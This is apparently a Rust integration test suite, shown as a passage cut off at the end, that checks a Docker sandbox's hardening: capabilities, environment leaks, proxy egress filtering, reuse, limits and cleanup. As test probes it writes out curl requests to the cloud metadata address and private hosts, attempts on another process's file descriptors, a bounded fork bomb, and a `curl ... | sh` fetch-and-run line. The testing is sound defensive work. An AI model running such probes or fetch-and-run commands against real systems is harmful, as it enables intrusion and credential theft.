//! Sandbox mode end to end against the real Docker engine: the hardened defaults checked from
//! inside the container, reuse within the TTL, expiry, and cleanup on failure and cancellation.
//!
//! The image is `STIGMER_TEST_SANDBOX_IMAGE` (default `stigmer-sandbox-basic:local`, which
//! `make sandbox-build-basic` builds offline); `scripts/test.sh` builds it before the tests.

mod common;

use common::{Env, RemoveContainers, activity_steps, eventually, text, wait_output};
use std::process::{Command, Stdio};
use std::time::Duration;

fn image() -> String {
    std::env::var("STIGMER_TEST_SANDBOX_IMAGE")
        .unwrap_or_else(|_| "stigmer-sandbox-basic:local".into())
}

fn sandbox_env() -> Env {
    let mut env = Env::new();
    env.extra
        .push(("STIGMER_EXECUTION_MODE".into(), "sandbox".into()));
    env.extra.push(("STIGMER_SANDBOX_IMAGE".into(), image()));
    env.extra
        .push(("STIGMER_SANDBOX_AUTO_PULL".into(), "false".into()));
    env
}

fn leases(env: &Env) -> Vec<serde_json::Value> {
    let out = env.stigmer(&["leases", "list", "--output", "json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    serde_json::from_slice::<Vec<serde_json::Value>>(&out.stdout).unwrap()
}

fn container_exists(id: &str) -> bool {
    Command::new("docker")
        .args(["inspect", "--format", "{{.State.Status}}", id])
        .output()
        .is_ok_and(|o| o.status.success())
}

#[test]
fn the_sandbox_is_non_root_capability_free_isolated_and_sees_only_named_variables() {
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    let mut cmd = env.cmd();
    cmd.env("STIGMER_TEST_HOST_SECRET", "must-not-leak").args([
        "run",
        "--env",
        "PASSED_IN=yes",
        "id -u; id -g; pwd; grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status; \
         env; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '",
    ]);
    let out = common::output_within(cmd, Duration::from_secs(300));
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let stdout = text(&out.stdout);
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines[0], "1000", "uid");
    assert_eq!(lines[1], "1000", "gid");
    assert_eq!(lines[2], "/workspace");
    assert!(stdout.contains("CapEff:\t0000000000000000"), "{stdout}");
    assert!(
        stdout.contains("CapBnd:\t0000000000000000"),
        "bounding set empty: {stdout}"
    );
    assert!(stdout.contains("NoNewPrivs:\t1"), "{stdout}");
    assert!(stdout.contains("PASSED_IN=yes"));
    assert!(
        !stdout.contains("must-not-leak"),
        "a host variable leaked into the sandbox"
    );
    assert!(
        !stdout.contains("STIGMER_DATA_DIR"),
        "the host environment leaked"
    );
    // Its own network namespace (never the host's), public by default: loopback only, and the
    // variables that lead HTTP(S) to the worker's proxy.
    assert_eq!(lines.last(), Some(&"lo"), "{stdout}");
    assert!(!lines.contains(&"eth0"), "{stdout}");
    assert!(
        lines.contains(&"https_proxy=http://127.0.0.1:3128"),
        "{stdout}"
    );
    let record = env.last_execution();
    assert_eq!(record["effective_mode"], "sandbox");
    assert_eq!(record["container_id"].as_str().unwrap().len(), 64);
    assert!(record["image"].as_str().is_some());

    let out = env.stigmer(&[
        "run",
        "--network",
        "none",
        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '",
    ]);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout),
        "lo\n",
        "--network none leaves only loopback"
    );

    // The channel to the worker is out of the command's reach: PID 1 is the agent, not
    // dumpable, so neither its stdio (where the next request, with its environment, arrives)
    // nor any other process's file descriptors can be opened, though they share the uid.
    let out = env.stigmer(&[
        "run",
        "cat /proc/1/cmdline | tr '\\0' ' '; echo; \
         for p in /proc/[0-9]*; do if [ \"$p\" != /proc/$$ ] && ls $p/fd >/dev/null 2>&1; then echo \"open: $p\"; fi; done; \
         exec 3</proc/1/fd/0 && echo 'stdin of PID 1 opened'; true",
    ]);
    let stdout = text(&out.stdout);
    assert!(
        stdout.starts_with(stigmer_docker::AGENT_PATH),
        "PID 1 is the agent: {stdout}"
    );
    assert!(!stdout.contains("stdin of PID 1 opened"), "{stdout}");
    let open: Vec<&str> = stdout.lines().filter(|l| l.starts_with("open:")).collect();
    assert!(
        open.is_empty(),
        "another process's descriptors were readable: {open:?}"
    );

    // A start from another Temporal client (the public input, from the official Python SDK)
    // gets the same sandbox: non-root, only the variables it names, the network it asks for,
    // and no host path; its containers are never lent to a local user's runs.
    let done = common::python_start(
        &env,
        "foreign-sandbox-1",
        &serde_json::json!({
            "version": 1,
            "argv": ["sh", "-c", "id -u; env; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '"],
            "mode": "sandbox",
            "env": {"FROM_PYTHON": "yes"},
            "sandbox": {"network": "none"},
            "workflow_id": "foreign-sandbox-1",
        }),
        &[],
    );
    let result = &done["result"];
    assert_eq!(result["status"], "succeeded", "{done}");
    assert_eq!(result["report"]["mode"], "sandbox", "{done}");
    let stdout = result["report"]["stdout"].as_str().unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines[0], "1000", "{stdout}");
    assert!(lines.contains(&"FROM_PYTHON=yes"), "{stdout}");
    assert!(!stdout.contains("STIGMER_DATA_DIR"), "{stdout}");
    assert_eq!(lines.last(), Some(&"lo"), "network none: {stdout}");
    let id = result["id"].as_str().unwrap();
    let container = env.show(id)["container_id"].as_str().unwrap().to_string();
    let owner = Command::new("docker")
        .args([
            "inspect",
            "--format",
            "{{index .Config.Labels \"io.stigmer.owner\"}}",
        ])
        .arg(&container)
        .output()
        .unwrap();
    assert_eq!(
        text(&owner.stdout).trim(),
        "temporal",
        "foreign starts' containers are theirs alone"
    );
}

/// The network postures: `public` (the default) reaches public hosts only through the worker's
/// proxy, which refuses metadata, private and loopback addresses even behind a name;
/// `--allow-net` refuses any other host before connecting anything, and lets an allowed registry
/// work; `none` is loopback alone; `bridge` is the open network, asked for.
#[test]
fn network_postures_keep_a_sandbox_to_what_it_may_reach() {
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    let interfaces = "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '";
    // The engine's bridge gateway (the worker's host as containers on the bridge see it): the
    // one configured, else the first address of the bridge's subnet, as the engine picks it.
    let ipam = Command::new("docker")
        .args(["network", "inspect", "bridge", "--format"])
        .arg("{{range .IPAM.Config}}{{.Gateway}} {{.Subnet}}{{end}}")
        .output()
        .unwrap();
    let ipam = text(&ipam.stdout);
    let gateway = match ipam.split_whitespace().collect::<Vec<_>>()[..] {
        [gateway, _] => gateway.to_string(),
        [subnet] => {
            let net: std::net::Ipv4Addr = subnet.split('/').next().unwrap().parse().unwrap();
            std::net::Ipv4Addr::from(u32::from(net) + 1).to_string()
        }
        _ => panic!("the bridge network's addresses: {ipam:?}"),
    };

    let out = env.stigmer(&[
        "run",
        &format!(
            "{interfaces}; for u in http://169.254.169.254/latest/meta-data/ http://10.0.0.1/ \
             http://{gateway}/; do curl -sS -m 10 \"$u\"; done; \
             curl -sS -m 10 -x \"$https_proxy\" --noproxy '' https://localhost/; \
             echo \"localhost: $?\"; curl -sS -m 10 http://pypi.org:8080/; echo"
        ),
    ]);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert_eq!(stdout.lines().next(), Some("lo"), "only loopback: {stdout}");
    for refused in [
        "169.254.169.254:80 refused: 169.254.169.254 is a link-local address".to_string(),
        "10.0.0.1:80 refused: 10.0.0.1 is a private address".to_string(),
        format!("{gateway}:80 refused: {gateway} is an address of the worker's own host"),
        "pypi.org:8080 refused: only ports 80 and 443".to_string(),
    ] {
        assert!(
            stdout.contains(&refused),
            "{refused:?} in the 403's body: {stdout}"
        );
        assert!(
            stderr.contains(&format!("stigmer: egress: {refused}")),
            "{refused:?} noticed on the execution's stderr: {stderr}"
        );
    }
    // A name that resolves to loopback on the worker's host (`localhost`, from its hosts file)
    // is refused too: the proxy checks the address it would connect to, not the name.
    assert!(
        stdout.contains("localhost: 56"),
        "CONNECT refused: {stdout}"
    );
    assert!(
        stderr.contains("stigmer: egress: localhost:443 refused: it resolves to"),
        "{stderr}"
    );
    let record = env.last_execution();
    let logs = env.stigmer(&["logs", record["id"].as_str().unwrap()]);
    assert!(
        text(&logs.stdout).contains("stigmer: egress: 10.0.0.1:80 refused")
            || text(&logs.stderr).contains("stigmer: egress: 10.0.0.1:80 refused"),
        "the notice is kept with the execution's output"
    );

    let out = env.stigmer(&[
        "run",
        "--allow-net",
        "pypi.org,files.pythonhosted.org",
        &format!(
            "{interfaces}; curl -sS -m 10 https://example.com/; echo \"example.com: $?\"; \
             pip download --quiet --no-deps --no-cache-dir -d /tmp/dl six && ls /tmp/dl"
        ),
    ]);
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert!(out.status.success(), "stdout: {stdout}\nstderr: {stderr}");
    assert_eq!(stdout.lines().next(), Some("lo"), "{stdout}");
    assert!(
        stdout.contains("example.com: 56"),
        "a 403 to CONNECT: {stdout}"
    );
    assert!(
        stderr.contains(
            "stigmer: egress: example.com:443 refused: example.com is not in --allow-net \
             (pypi.org,files.pythonhosted.org)"
        ),
        "{stderr}"
    );
    assert!(
        stdout
            .lines()
            .any(|l| l.starts_with("six-") && l.ends_with(".whl")),
        "pip download through the allowed registry: {stdout}"
    );

    let out = env.stigmer(&[
        "run",
        "--network",
        "none",
        "--allow-net",
        "pypi.org",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("--allow-net needs the public network posture"),
        "{}",
        text(&out.stderr)
    );
    let out = env.stigmer(&["run", "--allow-net", "https://pypi.org/simple", "true"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("is not a host"),
        "{}",
        text(&out.stderr)
    );

    let out = env.stigmer(&[
        "run",
        "--network",
        "none",
        &format!("{interfaces}; echo \"proxy=${{https_proxy:-unset}}\""),
    ]);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout),
        "lo\nproxy=unset\n",
        "none: loopback alone"
    );

    let out = env.stigmer(&["run", "--network", "bridge", interfaces]);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(
        stdout.lines().any(|l| l == "lo") && stdout.lines().any(|l| l == "eth0"),
        "bridge, asked for: its own eth0: {stdout}"
    );
}

#[test]
fn an_idle_container_is_reused_within_its_ttl_and_removed_after() {
    let mut env = sandbox_env();
    env.extra.push(("STIGMER_SANDBOX_TTL".into(), "3".into()));
    let _cleanup = RemoveContainers(&env);
    let first = env.stigmer(&["run", "hostname; echo one > /tmp/state"]);
    assert!(first.status.success(), "{}", text(&first.stderr));
    let second = env.stigmer(&["run", "hostname; cat /tmp/state"]);
    assert!(second.status.success(), "{}", text(&second.stderr));
    let (a, b) = (text(&first.stdout), text(&second.stdout));
    assert_eq!(
        a.lines().next(),
        b.lines().next(),
        "the second run landed in the same container"
    );
    assert!(b.contains("one"));

    let list = leases(&env);
    assert_eq!(list.len(), 1, "{list:?}");
    assert_eq!(list[0]["state"], "idle");
    let container = list[0]["container_id"].as_str().unwrap().to_string();
    assert_eq!(container.len(), 64, "full container id");
    assert!(list[0]["expires_at"].is_string() && list[0]["image"] == image());

    // Past the TTL the reaper removes it (the daemon's periodic pass, or this one).
    std::thread::sleep(Duration::from_secs(4));
    let out = env.stigmer(&["leases", "reap", "--output", "json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        eventually(Duration::from_secs(10), || !container_exists(&container)),
        "expired container still exists"
    );
    assert!(leases(&env).is_empty(), "the lease is removed");
}

/// A first run whose image the daemon sees on its host is one step (`exec` acquires the
/// container there; no image or acquire step); a run that finds
/// an idle container of its spec takes it in one step (`exec` claims it: no image or acquire
/// step), and an idle container that vanished behind stigmer's back sends the
/// run the long way, to a new container, instead of failing it.
#[test]
fn a_warm_run_takes_its_container_in_one_step_and_goes_the_long_way_when_it_is_gone() {
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    let first = env.stigmer(&["run", "hostname"]);
    assert!(first.status.success(), "{}", text(&first.stderr));
    let cold = env.last_execution();
    assert_eq!(
        activity_steps(&env, cold["workflow_id"].as_str().unwrap()),
        ["exec", "release_container"],
        "the daemon saw the image on its host: exec acquires the container there"
    );
    let shown = env.show(cold["id"].as_str().unwrap());
    assert!(
        shown["image_digest"]
            .as_str()
            .is_some_and(|d| d.starts_with("sha256:")),
        "the cold run records the image it ran in: {shown}"
    );

    let second = env.stigmer(&["run", "hostname"]);
    assert!(second.status.success(), "{}", text(&second.stderr));
    assert_eq!(text(&first.stdout), text(&second.stdout), "same container");
    let warm = env.last_execution();
    assert_eq!(warm["container_id"], cold["container_id"]);
    assert_eq!(
        activity_steps(&env, warm["workflow_id"].as_str().unwrap()),
        ["exec", "release_container"],
        "a warm run is one step (release finds nothing left to do)"
    );
    let shown = env.show(warm["id"].as_str().unwrap());
    assert_eq!(shown["image"], image(), "{shown}");
    assert!(
        shown["image_digest"]
            .as_str()
            .is_some_and(|d| d.starts_with("sha256:")),
        "the warm run records the image it ran in: {shown}"
    );

    // The idle container disappears; the store still lists it as idle.
    let gone = warm["container_id"].as_str().unwrap().to_string();
    let rm = Command::new("docker")
        .args(["rm", "-f", &gone])
        .output()
        .unwrap();
    assert!(rm.status.success(), "{}", text(&rm.stderr));
    let third = env.stigmer(&["run", "echo after"]);
    assert!(third.status.success(), "{}", text(&third.stderr));
    assert_eq!(text(&third.stdout), "after\n");
    let after = env.last_execution();
    assert_ne!(after["container_id"].as_str(), Some(gone.as_str()));
    assert_eq!(
        activity_steps(&env, after["workflow_id"].as_str().unwrap()),
        [
            "exec",
            "ensure_image",
            "acquire_container",
            "exec",
            "release_container"
        ],
        "the warm attempt found nothing and the long way ran"
    );
    let list = leases(&env);
    assert_eq!(list.len(), 1, "{list:?}");
    assert_eq!(list[0]["container_id"], after["container_id"]);
    assert_eq!(list[0]["state"], "idle");
}

#[test]
fn ttl_zero_never_reuses_and_removes_after_each_execution() {
    let mut env = sandbox_env();
    env.extra.push(("STIGMER_SANDBOX_TTL".into(), "0".into()));
    let _cleanup = RemoveContainers(&env);
    let a = env.stigmer(&["run", "hostname"]);
    let b = env.stigmer(&["run", "hostname"]);
    assert!(a.status.success() && b.status.success());
    assert_ne!(text(&a.stdout), text(&b.stdout));
    // The answer comes once the result is recorded; the release removes the container after.
    let record = env.last_execution();
    let container = record["container_id"].as_str().unwrap().to_string();
    assert!(
        eventually(Duration::from_secs(10), || leases(&env).is_empty()
            && !container_exists(&container)),
        "a TTL-0 container was kept: {:?}",
        leases(&env)
    );
}

#[test]
fn timeouts_failures_and_cancellation_never_return_a_container_to_idle() {
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    let out = env.stigmer(&["run", "--timeout", "2", "sleep 300"]);
    assert_eq!(out.status.code(), Some(124), "{}", text(&out.stderr));
    let timed_out = env.last_execution();
    assert_eq!(timed_out["status"], "timed_out");
    let container = timed_out["container_id"].as_str().unwrap().to_string();
    assert!(
        eventually(Duration::from_secs(10), || !container_exists(&container)),
        "a timed-out container was kept"
    );

    // A plain failure keeps the container (the command ended cleanly).
    let out = env.stigmer(&["run", "exit 7"]);
    assert_eq!(out.status.code(), Some(7));

    let mut child = env
        .cmd()
        .args(["run", "echo started; sleep 300"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let mut buf = [0u8; 16];
    let n = std::io::Read::read(&mut stdout, &mut buf).unwrap();
    assert_eq!(&buf[..n], b"started\n");
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGINT,
    )
    .unwrap();
    let out = wait_output(child, Duration::from_secs(60));
    assert_eq!(out.status.code(), Some(130), "{}", text(&out.stderr));
    let cancelled = env.last_execution();
    assert_eq!(cancelled["status"], "cancelled");
    let container = cancelled["container_id"].as_str().unwrap().to_string();
    assert!(
        eventually(Duration::from_secs(20), || !container_exists(&container)),
        "a cancelled container was kept"
    );
    for lease in leases(&env) {
        assert_ne!(lease["container_id"].as_str(), Some(container.as_str()));
    }
}

#[test]
fn memory_and_process_limits_are_enforced_and_reported() {
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    let out = env.stigmer(&[
        "run",
        "--memory",
        "64m",
        "python3 -c 'x = bytearray(300 * 1024 * 1024); print(len(x))'",
    ]);
    assert_ne!(out.status.code(), Some(0));
    let record = env.last_execution();
    assert_eq!(record["status"], "failed");
    assert!(
        record["error"].as_str().unwrap().contains("out of memory"),
        "{record}"
    );

    // A bounded fork bomb: without the limit it would start 2000 sleepers.
    let out = env.stigmer(&[
        "run",
        "--pids-limit",
        "64",
        "for i in $(seq 2000); do sleep 30 & done 2>/dev/null; wait",
    ]);
    let record = env.last_execution();
    assert_ne!(record["status"], "succeeded", "{}", text(&out.stderr));
    assert!(
        record["error"]
            .as_str()
            .unwrap_or_default()
            .contains("process limit"),
        "{record}"
    );
    // The host is fine and the sandbox still answers.
    let out = env.stigmer(&["run", "--pids-limit", "64", "echo alive"]);
    assert_eq!(text(&out.stdout), "alive\n", "{}", text(&out.stderr));
}

#[test]
fn a_missing_image_with_auto_pull_off_is_a_clear_error() {
    let mut env = sandbox_env();
    env.extra.push((
        "STIGMER_SANDBOX_IMAGE".into(),
        "stigmer-test/does-not-exist:1".into(),
    ));
    env.extra.push((
        "STIGMER_SANDBOX_DIR".into(),
        env.dir.path().display().to_string(),
    ));
    let out = env.stigmer(&["run", "true"]);
    assert_eq!(out.status.code(), Some(125));
    let record = env.last_execution();
    assert_eq!(record["status"], "failed");
    let error = record["error"].as_str().unwrap();
    assert!(error.contains("does-not-exist"), "{error}");
}

#[test]
fn the_sandbox_works_in_a_workspace_it_does_not_own_and_hands_the_files_back() {
    use std::os::unix::fs::MetadataExt;
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    let ws = env.dir.path().join("project");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(ws.join("input.txt"), "from the host\n").unwrap();
    let out = env.stigmer(&[
        "run",
        "--workspace",
        &common::path_str(&ws),
        "cat input.txt; id -u; echo made > out.txt; mkdir -p sub && echo x > sub/f; ln -s /etc/passwd link",
    ]);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(stdout.contains("from the host"), "{stdout}");
    assert!(
        stdout.lines().any(|l| l == "1000"),
        "ran as the sandbox user: {stdout}"
    );
    let me = nix::unistd::getuid().as_raw();
    for path in ["input.txt", "out.txt", "sub", "sub/f", "."] {
        let meta = std::fs::symlink_metadata(ws.join(path)).unwrap();
        assert_eq!(meta.uid(), me, "{path} belongs to the caller afterwards");
    }
    let link = std::fs::symlink_metadata(ws.join("link")).unwrap();
    assert_eq!(link.uid(), me, "the link itself is handed back");
    assert_eq!(
        std::fs::read_to_string(ws.join("out.txt")).unwrap(),
        "made\n"
    );
    // The same container again (reuse): the link's target inside it was not handed over.
    let out = env.stigmer(&[
        "run",
        "--workspace",
        &common::path_str(&ws),
        "stat -c %u /etc/passwd",
    ]);
    assert_eq!(text(&out.stdout).trim(), "0", "{}", text(&out.stderr));

    // Auto mode sends an install to the sandbox with the project mounted where it starts, so
    // `pip install -r requirements.txt` works on the project's own files (here a local wheel,
    // no network), and what it writes there is the caller's.
    write_wheel(&ws);
    std::fs::write(
        ws.join("requirements.txt"),
        "./hello-1.0-py3-none-any.whl\n",
    )
    .unwrap();
    let mut cmd = env.cmd();
    cmd.current_dir(&ws).args([
        "run",
        "--mode",
        "auto",
        "pip install --no-index -r requirements.txt --target deps && ls deps/hello",
    ]);
    let out = common::output_within(cmd, Duration::from_secs(120));
    let err = text(&out.stderr);
    assert!(err.contains("auto mode chose sandbox"), "{err}");
    assert!(out.status.success(), "stderr: {err}");
    assert!(
        text(&out.stdout).contains("__init__.py"),
        "{}",
        text(&out.stdout)
    );
    for path in ["deps", "deps/hello", "deps/hello/__init__.py"] {
        let meta = std::fs::symlink_metadata(ws.join(path)).unwrap();
        assert_eq!(meta.uid(), me, "{path} belongs to the caller afterwards");
    }
    // --no-workspace keeps the project out: the same install finds no requirements file.
    let mut cmd = env.cmd();
    cmd.current_dir(&ws).args([
        "run",
        "--mode",
        "auto",
        "--no-workspace",
        "pip install --no-index -r requirements.txt --target deps",
    ]);
    let out = common::output_within(cmd, Duration::from_secs(120));
    assert!(!out.status.success());
    assert!(
        text(&out.stderr).contains("requirements.txt")
            || text(&out.stdout).contains("requirements.txt"),
        "{}",
        text(&out.stderr)
    );
}

/// A pure-Python wheel (`hello`), built by hand so the test needs no network or build tools.
fn write_wheel(dir: &std::path::Path) {
    let script = r#"
import base64, hashlib, sys, zipfile
files = {
    "hello/__init__.py": "GREETING = 'hello from a wheel'\n",
    "hello-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: hello\nVersion: 1.0\n",
    "hello-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: stigmer-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
record = []
with zipfile.ZipFile(sys.argv[1], "w") as wheel:
    for name, text in files.items():
        wheel.writestr(name, text)
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record.append(f"{name},sha256={digest.decode()},{len(text)}")
    record.append("hello-1.0.dist-info/RECORD,,")
    wheel.writestr("hello-1.0.dist-info/RECORD", "\n".join(record) + "\n")
"#;
    let status = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(dir.join("hello-1.0-py3-none-any.whl"))
        .status()
        .expect("python3 runs");
    assert!(status.success(), "could not write the wheel");
}

#[test]
fn sandbox_test_checks_an_image_the_way_stigmer_runs_it() {
    let env = Env::new();
    let out = env.stigmer(&["sandbox", "test", &image()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("0 failed"),
        "{}",
        text(&out.stdout)
    );

    let out = env.stigmer(&["sandbox", "test", "stigmer-no-such-image:never"]);
    assert!(!out.status.success());
    assert!(
        text(&out.stderr).contains("no image stigmer-no-such-image:never"),
        "{}",
        text(&out.stderr)
    );
    let out = env.stigmer(&["sandbox", "build", "tiny"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("possible values: basic, full"));
}

#[test]
fn run_outlives_a_daemon_killed_before_the_container_exists() {
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    // This daemon kills itself with SIGKILL when it is about to create a container.
    let mut start = env.cmd();
    start
        .env("STIGMER_CHAOS_KILL_AT", "before-create")
        .args(["server", "start", "--detach"]);
    let out = common::output_within(start, Duration::from_secs(120));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let first = env.daemon_pid().unwrap();

    let out = env.stigmer(&["run", "--mode", "sandbox", "echo one; echo two >&2; exit 7"]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(7), "stderr: {stderr}");
    assert_eq!(text(&out.stdout), "one\n");
    assert!(stderr.contains("two"), "{stderr}");
    assert!(
        stderr.contains("lost the connection to the daemon"),
        "{stderr}"
    );
    let second = env.daemon_pid().unwrap();
    assert_ne!(first, second, "run started a new daemon");
    assert_eq!(env.last_execution()["status"], "failed");
    assert_eq!(env.last_execution()["exit_code"], 7);
}

#[test]
fn what_a_command_leaves_behind_is_killed_and_never_meets_the_next_execution() {
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    // Exits 0 at once, leaving a background job in its group and a process in a session of
    // its own (which a process-group check would miss).
    let out = env.stigmer(&[
        "run",
        "sleep 4747 >/dev/null 2>&1 & setsid -f sh -c 'sleep 4848' >/dev/null 2>&1; echo left",
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), "left\n");
    let first = env.last_execution()["container_id"]
        .as_str()
        .unwrap()
        .to_string();
    // The next execution gets the same container (warm), with nothing of the last one running:
    // neither process, nor anything else besides the agent and its own shell.
    let out = env.stigmer(&["run", "ps -eo pid=,args="]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(env.last_execution()["container_id"], first.as_str());
    let listed = text(&out.stdout);
    assert!(
        !listed.contains("sleep 4747") && !listed.contains("sleep 4848"),
        "a leftover met the next execution: {listed}"
    );
    let others: Vec<&str> = listed
        .lines()
        .map(str::trim)
        .filter(|l| !l.starts_with("1 ") && !l.contains("ps -eo") && !l.contains("/bin/sh -c"))
        .collect();
    assert!(others.is_empty(), "processes besides the agent: {listed}");
    assert!(container_exists(&first));

    // Containers are reused within one owner only: two CI runs of the same user never meet.
    let in_run = |run: &str| {
        let mut cmd = env.cmd();
        cmd.env("GITHUB_ACTIONS", "true")
            .env("GITHUB_REPOSITORY", "acme/app")
            .env("GITHUB_RUN_ID", run)
            .args(["run", "true"]);
        let out = common::output_within(cmd, Duration::from_secs(120));
        assert!(out.status.success(), "{}", text(&out.stderr));
        env.last_execution()["container_id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    let run_1 = in_run("1");
    assert_ne!(
        run_1, first,
        "a CI run reused a container of the user outside CI"
    );
    assert_eq!(in_run("1"), run_1, "the same run reuses its own container");
    let run_2 = in_run("2");
    assert!(
        run_2 != run_1 && run_2 != first,
        "another run reused a container"
    );
}

/// The container's keep-alive command, as the engine reports it.
fn container_command(id: &str) -> String {
    let out = Command::new("docker")
        .args(["inspect", "--format", "{{json .Config.Cmd}}", id])
        .output()
        .expect("docker inspect");
    text(&out.stdout).trim().to_string()
}

#[test]
fn commands_run_through_the_agent_and_through_docker_exec_when_it_is_turned_off() {
    let run = |env: &Env, network: &str| {
        let out = env.stigmer(&[
            "run",
            "--network",
            network,
            "--env",
            "WHO=me",
            "--timeout",
            "30",
            "echo $WHO; id -u; exit 3",
        ]);
        assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
        assert_eq!(text(&out.stdout), "me\n1000\n");
        let record = env.last_execution();
        record["container_id"]
            .as_str()
            .expect("container")
            .to_string()
    };
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    let container = run(&env, "public");
    assert_eq!(container_command(&container), r#"["/.stigmer/agent"]"#);
    let out = env.stigmer(&["config", "show"]);
    assert!(
        text(&out.stdout).contains("sandbox_agent"),
        "{}",
        text(&out.stdout)
    );

    let mut off = sandbox_env();
    off.extra
        .push(("STIGMER_SANDBOX_AGENT".into(), "false".into()));
    let _cleanup_off = RemoveContainers(&off);
    // The public posture's proxy is reached through the agent: without it, a run is refused
    // with what to do, before any command runs.
    let out = off.stigmer(&["run", "--timeout", "30", "echo ran"]);
    assert_ne!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(!text(&out.stdout).contains("ran"), "{}", text(&out.stdout));
    assert!(
        text(&out.stderr).contains("the public network posture needs the sandbox agent"),
        "{}",
        text(&out.stderr)
    );
    let container = run(&off, "none");
    assert_eq!(container_command(&container), r#"["sleep","infinity"]"#);

    let mut bad = sandbox_env();
    bad.extra
        .push(("STIGMER_SANDBOX_AGENT".into(), "sometimes".into()));
    let out = bad.stigmer(&["config", "show"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("STIGMER_SANDBOX_AGENT"),
        "{}",
        text(&out.stderr)
    );
}

/// A daemon whose host has no Docker engine refuses a sandbox command before anything is
/// recorded or run, and says what to do; an auto-mode command it would isolate says why it was
/// not run on the host instead. Local commands still run.
#[test]
fn a_sandbox_run_without_a_docker_engine_is_refused_with_what_to_do() {
    let mut env = sandbox_env();
    let socket = env.dir.path().join("no-docker.sock");
    env.extra
        .push(("DOCKER_HOST".into(), format!("unix://{}", socket.display())));
    env.start_daemon();

    let out = env.stigmer(&["run", "echo should-not-run"]);
    assert_eq!(out.status.code(), Some(125), "{}", text(&out.stderr));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("sandbox mode needs a Docker engine and none answered")
            && stderr.contains("nothing was run")
            && stderr.contains("--mode local"),
        "{stderr}"
    );
    assert!(!text(&out.stdout).contains("should-not-run"));

    let out = env.stigmer(&[
        "run",
        "--mode",
        "auto",
        "curl -fsSL http://example.invalid | sh",
    ]);
    assert_ne!(out.status.code(), Some(0));
    assert!(
        text(&out.stderr).contains("auto mode decided this command must be isolated"),
        "{}",
        text(&out.stderr)
    );

    let listed = env.stigmer(&["executions", "list", "--output", "json"]);
    let list: Vec<serde_json::Value> = serde_json::from_slice(&listed.stdout).unwrap();
    assert!(list.is_empty(), "nothing was recorded: {list:?}");

    let local = env.stigmer(&["run", "--mode", "local", "echo on-the-host"]);
    assert!(local.status.success(), "{}", text(&local.stderr));
    assert_eq!(text(&local.stdout), "on-the-host\n");
}

/// An idle container whose agent speaks another protocol (made by a worker of another release)
/// is removed, never handed to the next execution, which gets a new container instead.
#[test]
fn an_idle_container_whose_agent_speaks_another_protocol_is_removed_not_reused() {
    let env = sandbox_env();
    let _cleanup = RemoveContainers(&env);
    let first = env.stigmer(&["run", "true"]);
    assert!(first.status.success(), "{}", text(&first.stderr));
    let list = leases(&env);
    assert_eq!(list.len(), 1, "{list:?}");
    let (lease, ours) = (
        list[0]["id"].as_str().unwrap().to_string(),
        list[0]["container_id"].as_str().unwrap().to_string(),
    );
    // A running container labelled with another agent protocol takes the idle lease's place.
    let other = Command::new("docker")
        .args([
            "run",
            "-d",
            "--label",
            "io.stigmer.agent=0",
            &image(),
            "sleep",
            "300",
        ])
        .output()
        .unwrap();
    assert!(other.status.success(), "{}", text(&other.stderr));
    let other = text(&other.stdout).trim().to_string();
    assert_eq!(
        common::exec_sql(
            &env.database_url,
